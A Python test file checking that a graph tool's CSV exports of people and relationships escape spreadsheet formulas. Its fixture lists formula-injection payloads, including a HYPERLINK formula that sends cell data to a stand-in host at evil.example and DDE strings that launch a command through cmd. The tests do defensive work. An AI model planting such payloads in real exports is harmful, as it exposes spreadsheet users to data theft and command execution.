"""CSV exports on both stores: every row out, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from tellgraph.graph.store import GraphStore
from tellgraph.schema.labels import NodeLabel, RelType
from tellgraph.schema.model import Company, Edge, Person
from tellgraph.services.export import (
    FORMULA_TRIGGERS,
    PEOPLE_COLUMNS,
    RELATIONSHIP_COLUMNS,
    ExportKind,
    export_csv,
)

EVIL = {
    "p1": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "p2": "+cmd|' /C calc'!A0",
    "p3": "-2+3+cmd|' /C calc'!A0",
    "p4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "p5": "\t=1+1",
    "p6": "\r=1+1",
    "p7": "   =1+1",
    "p8": "Plain Name",
}
T = datetime(2026, 11, 1, tzinfo=UTC)


def _graph(store: GraphStore) -> None:
    store.upsert_entities(
        entities=[
            Company(id="c1", name="=Evil Corp()", domain="evil.example"),
            *[
                Person(
                    id=pid,
                    name=None,
                    emails=[f"{pid}@evil.example"],
                    title="@admin",
                    company_domain="evil.example",
                    phones=["+44 20 7946 0000"],
                )
                for pid in EVIL
            ],
        ]
    )
    # Names set directly: the model would normalise whitespace, and hostile sources are not that polite.
    for pid, name in EVIL.items():
        store.set_node_props(label=NodeLabel.PERSON, node_id=pid, props={"name": name})
    store.upsert_edges(
        edges=[
            Edge(
                type=RelType.KNOWS,
                src_label=NodeLabel.PERSON,
                src_id="p1",
                dst_label=NodeLabel.PERSON,
                dst_id="p2",
                props={
                    "strength": 0.5,
                    "interaction_count": 3,
                    "last_interaction": T,
                    "sentiment": -0.25,
                    "explanation": "=1+1 because they met",
                },
                provenance=["test"],
            )
        ],
        now=T,
    )
    store.flush()


def _read(store: GraphStore, kind: ExportKind) -> tuple[int, list[dict[str, str]]]:
    buffer = io.StringIO(newline="")
    rows = export_csv(store, kind=kind, out=buffer)
    return rows, list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))


def _no_formulas(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            if column in ("strength", "interaction_count", "sentiment", "relationships"):
                continue  # numbers written as numbers
            assert not cell.lstrip(" ").startswith(FORMULA_TRIGGERS), (column, cell)


def test_people_export_neutralises_formulas(store: GraphStore) -> None:
    _graph(store)
    count, rows = _read(store, ExportKind.PEOPLE)
    assert count == len(rows) == len(EVIL)
    assert list(rows[0]) == list(PEOPLE_COLUMNS)
    _no_formulas(rows)
    by_id = {row["id"]: row for row in rows}
    for pid, name in EVIL.items():
        cell = by_id[pid]["name"]
        # The original text survives behind the quote mark (the store may trim surrounding whitespace).
        assert cell.removeprefix("'").strip() == name.strip() or cell == name, (cell, name)
    assert by_id["p1"]["company"] == "'=Evil Corp()"
    assert by_id["p1"]["title"] == "'@admin"
    assert by_id["p1"]["phones"] == "'+44 20 7946 0000"
    assert by_id["p8"]["name"] == "Plain Name"


def test_relationships_export_neutralises_formulas(store: GraphStore) -> None:
    _graph(store)
    count, rows = _read(store, ExportKind.RELATIONSHIPS)
    assert count == len(rows) == 1
    assert list(rows[0]) == list(RELATIONSHIP_COLUMNS)
    _no_formulas(rows)
    [row] = rows
    assert {row["a_id"], row["b_id"]} == {"p1", "p2"}
    assert row["explanation"] == "'=1+1 because they met"
    assert float(row["sentiment"]) == -0.25  # a number, not text: left as it is
    assert row["last_interaction"].startswith("2026-11-01")
